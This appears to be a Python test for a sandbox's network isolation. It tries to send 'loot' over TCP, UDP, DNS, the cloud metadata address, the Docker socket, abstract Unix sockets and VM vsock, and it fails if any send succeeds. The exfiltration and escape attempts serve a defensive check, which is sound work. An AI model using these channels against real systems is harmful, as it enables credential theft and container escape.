# expect: PASS
"""Sends over TCP, UDP, DNS, the cloud's metadata address, abstract and virtual-machine sockets."""

import socket

STREAM, DATAGRAM = socket.SOCK_STREAM, socket.SOCK_DGRAM
AF_RDS, AF_VSOCK = 21, 40
loot = []
for family, kind, address in (
    (socket.AF_INET, STREAM, ("127.0.0.1", @TCP_PORT@)),
    (socket.AF_INET, STREAM, ("169.254.169.254", 80)),
    (socket.AF_INET, STREAM, ("192.0.2.1", 443)),
    (socket.AF_INET, DATAGRAM, ("192.0.2.1", 53)),
    (socket.AF_INET6, DATAGRAM, ("2001:db8::1", 53)),
    (socket.AF_UNIX, STREAM, "\0@ABSTRACT@"),
    (socket.AF_UNIX, STREAM, "/run/docker.sock"),
    (AF_VSOCK, STREAM, (2, 1024)),
):
    try:
        with socket.socket(family, kind) as sock:
            sock.settimeout(0.3)
            sock.connect(address)
            sock.send(b"loot")
        loot.append(str(address))
    except OSError:
        pass
try:
    with socket.socket(socket.AF_INET, DATAGRAM) as sock:  # its own loopback takes it; the listener outside must not
        sock.sendto(b"loot", ("127.0.0.1", @UDP_PORT@))
except OSError:
    pass
try:
    socket.socket(AF_RDS, DATAGRAM)  # a module may be loaded for it
except PermissionError:
    pass
if loot:
    raise RuntimeError(f"the attack worked: {loot}")
